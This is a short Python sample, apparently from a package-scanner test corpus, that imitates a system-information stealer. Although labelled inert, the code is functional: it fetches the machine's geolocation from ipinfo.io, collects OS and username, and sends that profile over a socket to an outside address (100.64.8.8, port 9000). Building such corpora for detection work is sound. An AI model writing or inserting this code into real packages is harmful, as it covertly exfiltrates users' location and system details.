# pkgguard corpus 306 (system-information), modelled on [stealer-profile]; inert, never run.
import json
import os
import platform
import socket
import urllib.request

geo = json.load(urllib.request.urlopen("https://ipinfo.io/json"))
profile = json.dumps({"geo": geo, "os": platform.platform(), "user": os.getlogin()}).encode()
s = socket.create_connection(("100.64.8.8", 9000))
s.sendall(profile)
s.close()
